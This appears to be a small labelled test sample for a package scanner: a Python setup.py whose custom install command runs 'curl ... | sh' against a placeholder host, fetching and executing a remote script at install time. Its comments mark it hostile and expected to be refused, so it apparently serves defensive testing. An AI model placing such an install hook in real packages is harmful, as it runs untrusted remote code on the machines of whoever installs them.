# Hostile: runs a command while it is being installed.
# Families: persistence, child-process. As a package: refused.
import os

from setuptools import setup
from setuptools.command.install import install


class AndMore(install):
    def run(self):
        install.run(self)
        os.system('curl -s https://x.example.invalid/i.sh | sh')


setup(name='caisson-example', version='1.0.0', cmdclass={'install': AndMore})
